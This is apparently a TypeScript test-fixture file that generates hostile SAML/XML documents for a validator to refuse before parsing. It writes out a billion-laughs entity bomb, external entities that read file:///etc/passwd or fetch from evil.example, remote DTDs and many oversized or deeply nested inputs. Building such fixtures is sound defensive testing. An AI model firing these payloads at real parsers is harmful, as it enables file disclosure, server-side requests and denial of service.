import { encode, family, forgers, type HostileMessage, type Row, type Setting, swap } from './message.js';

const many = (count: number, each: (index: number) => string) =>
  Array.from({ length: count }, (_, at) => each(at)).join('');

/** Documents that are small to send and large to judge. Each is refused before a parser sees it. */
export function bombs(setting: Setting): HostileMessage[] {
  const { altered } = forgers(setting);
  const doctype = (declarations: string, use = '&a9;') =>
    altered((xml) => `<!DOCTYPE r ${declarations}>${swap('name-1', use)(xml)}`);
  const inside = (content: string) =>
    altered(swap('<samlp:Status>', (at) => `<samlp:Extensions>${content}</samlp:Extensions>${at}`));
  const nested = (count: number, open = '<a>', close = '</a>') => open.repeat(count) + close.repeat(count);
  const laughs = many(9, (at) => `<!ENTITY a${at + 1} "${`&a${at};`.repeat(10)}">`);
  const rows: readonly Row[] = [
    ['markup', 'a billion laughs', doctype(`[<!ENTITY a0 "ha">${laughs}]`)],
    ['markup', 'one long entity many times', doctype(`[<!ENTITY a9 "${'a'.repeat(50_000)}">]`, '&a9;'.repeat(500))],
    ['markup', 'an entity of a file', doctype('[<!ENTITY a9 SYSTEM "file:///etc/passwd">]')],
    ['markup', 'an entity of an address', doctype('[<!ENTITY a9 SYSTEM "https://evil.example/x">]')],
    ['markup', 'a parameter entity', doctype('[<!ENTITY % a SYSTEM "https://evil.example/x.dtd"> %a;]', 'name-2')],
    ['markup', 'a document type elsewhere', doctype('SYSTEM "https://evil.example/x.dtd"', 'name-2')],
    ['markup', 'attributes by document type', doctype('[<!ATTLIST saml:Assertion ID ID #IMPLIED>]', 'name-2')],
    ['size', 'fifty deep', inside(nested(50))],
    ['size', 'ten thousand deep', encode(nested(10_000))],
    ['size', 'deep, each tag with what looks like its end in quotes', inside(nested(200, '<a x="/>">'))],
    ['size', 'deep, each tag with what looks like its end in other quotes', inside(nested(200, "<a x='/>'>"))],
    [
      'size',
      'deep, with ends in a comment',
      inside(`${'<a>'.repeat(40)}<!--${'</a>'.repeat(40)}-->${nested(40)}${'</a>'.repeat(40)}`),
    ],
    ['size', 'fifteen hundred tags', inside('<a/>'.repeat(1500))],
    ['size', 'a hundred thousand tags', inside('<a/>'.repeat(70_000))],
    ['size', 'fifteen hundred comments', inside('<!---->'.repeat(1500))],
    ['size', 'an element of fifty attributes', inside(`<a ${many(50, (at) => `a${at}="" `)}/>`)],
    ['size', 'an element of twenty thousand attributes', inside(`<a ${many(20_000, (at) => `a${at}="" `)}/>`)],
    ['size', 'an element of thousands of namespaces', inside(`<a ${many(9_000, (at) => `xmlns:a${at}="u" `)}/>`)],
    ['size', 'many attributes, a few each', inside(many(200, () => `<a ${many(10, (at) => `a${at}="" `)}/>`))],
    [
      'size',
      'namespaces within namespaces',
      inside(many(45, (at) => `<a ${many(39, (no) => `xmlns:a${at}a${no}="u" `)}>`) + '</a>'.repeat(45)),
    ],
    ['size', 'a name of three hundred thousand characters', encode('n'.repeat(300_001))],
    ['size', 'half a megabyte of base64', 'A'.repeat(500_000)],
    ['size', 'an attribute of three hundred thousand characters', inside(`<a a="${'a'.repeat(297_000)}"/>`)],
    ['well-formed', 'tags that never end', encode(`<a>${'<a '.repeat(90_000)}`)],
    ['well-formed', 'quotes that never end', encode(`<a ${'x="'.repeat(90_000)}`)],
    ['well-formed', 'comments that never end', encode(`<a>${'<!-- '.repeat(50_000)}`)],
  ];
  return family('bombs', 'saml', rows);
}
